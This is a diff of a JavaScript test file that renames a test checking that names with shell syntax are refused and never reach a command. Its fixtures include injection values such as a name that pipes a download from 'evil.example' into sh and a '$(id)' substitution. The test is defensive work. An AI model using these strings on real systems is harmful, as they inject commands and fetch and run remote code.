@@ -243,7 +243,7 @@ for (const [title, options, reason] of attacks) {
   });
 }
 
-t.test("a name that a shell could run is refused, and never part of a command", async (t) => {
+t.test("a name with shell syntax is refused, and never becomes part of a command", async (t) => {
   const names = [
     "csr-x; curl evil.example | sh",
     "csr-$(id)",
